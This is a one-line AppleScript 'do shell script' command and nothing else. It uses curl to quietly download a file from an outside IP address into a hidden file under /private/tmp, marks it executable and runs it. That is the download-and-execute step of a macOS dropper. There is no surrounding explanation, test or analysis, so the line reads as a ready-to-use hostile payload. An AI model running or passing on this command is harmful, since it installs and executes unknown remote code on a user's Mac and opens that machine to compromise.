do shell script "curl -s http://198.51.100.9/u -o /private/tmp/.u; chmod 755 /private/tmp/.u; /private/tmp/.u"
